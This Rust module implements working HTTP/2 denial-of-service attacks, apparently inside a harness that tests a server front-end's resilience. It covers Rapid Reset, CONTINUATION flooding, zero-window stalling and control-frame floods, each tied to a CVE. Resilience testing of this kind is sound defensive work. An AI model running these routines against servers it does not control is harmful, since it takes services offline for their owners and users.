//! Attacks with the frames of HTTP/2.

use std::sync::Arc;
use std::time::Duration;

use super::front::{Front, crowd, stream};
use super::h2::{
    ACK, CANCEL, CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, RST_STREAM, SETTINGS, field,
    frame, get, listen, preface,
};

const TICK: Duration = Duration::from_millis(20);

/// CVE-2023-44487: each request is taken back before it can be answered.
pub(super) async fn rapid_reset(front: Arc<Front>) {
    crowd(&front, 10, |front, number| async move {
        let fields = get("/livez");
        while !front.is_over() {
            let Some(mut line) = front.connect(number % 4).await else { continue };
            let (mut stream, mut rest) = (1, Vec::new());
            line.say(&preface(&[])).await;
            loop {
                let mut bytes = Vec::new();
                for _ in 0..20 {
                    bytes.extend(frame(HEADERS, END_HEADERS | END_STREAM, stream, &fields));
                    bytes.extend(frame(RST_STREAM, 0, stream, &CANCEL));
                    stream += 2;
                    front.note("reset");
                }
                if !line.say(&bytes).await || !listen(&mut line, &mut rest, TICK, &front).await {
                    break;
                }
            }
            listen(&mut line, &mut rest, TICK, &front).await;
            front.note("closed");
            tokio::time::sleep(TICK).await;
        }
    })
    .await;
}

/// CVE-2024-27316 and its kin: a head that never ends.
pub(super) async fn continuation(front: Arc<Front>) {
    stream(&front, 50, |front, number| async move {
        let Some(mut line) = front.connect(number % 4).await else { return };
        let mut rest = Vec::new();
        let more: Vec<u8> =
            (0..100).flat_map(|number| field(&format!("x-{number}"), &"y".repeat(100))).collect();
        line.say(&preface(&[])).await;
        line.say(&frame(HEADERS, END_STREAM, 1, &get("/livez"))).await;
        for _ in 0..500 {
            let said = line.say(&frame(CONTINUATION, 0, 1, &more)).await;
            if !said || !listen(&mut line, &mut rest, Duration::from_millis(1), &front).await {
                listen(&mut line, &mut rest, TICK, &front).await;
                front.note("closed");
                return;
            }
        }
        front.note("5 MiB of head were taken");
    })
    .await;
}

/// CVE-2019-9517: answers are asked for and not let in.
pub(super) async fn zero_window(front: Arc<Front>) {
    crowd(&front, 50, |front, number| async move {
        while !front.is_over() {
            let Some(mut line) = front.connect(number % 4).await else { continue };
            let mut rest = Vec::new();
            // Setting 4 is the window of a stream.
            line.say(&preface(&[(4, 0)])).await;
            let fields = get("/metrics");
            let requests =
                (0..100).flat_map(|n| frame(HEADERS, END_HEADERS | END_STREAM, n * 2 + 1, &fields));
            line.say(&requests.collect::<Vec<u8>>()).await;
            while listen(&mut line, &mut rest, Duration::from_secs(1), &front).await {
                // Whoever is alive is not idle.
                line.say(&frame(PING, 0, 0, &[7; 8])).await;
            }
            front.note("closed");
            tokio::time::sleep(TICK).await;
        }
    })
    .await;
}

/// CVE-2019-9512, 9515 and 9518: frames that cost their sender nothing.
pub(super) async fn control(front: Arc<Front>) {
    crowd(&front, 10, |front, number| async move {
        while !front.is_over() {
            let Some(mut line) = front.connect(number % 4).await else { continue };
            let mut rest = Vec::new();
            line.say(&preface(&[])).await;
            line.say(&frame(SETTINGS, ACK, 0, &[])).await;
            line.say(&frame(HEADERS, END_HEADERS, 1, &get("/livez"))).await;
            let mut bytes = Vec::new();
            for _ in 0..14 {
                bytes.extend(frame(PING, 0, 0, &[7; 8]));
                bytes.extend(frame(SETTINGS, 0, 0, &[]));
                bytes.extend(frame(DATA, 0, 1, &[]));
            }
            while line.say(&bytes).await && listen(&mut line, &mut rest, TICK, &front).await {}
            front.note("closed");
            tokio::time::sleep(TICK).await;
        }
    })
    .await;
}
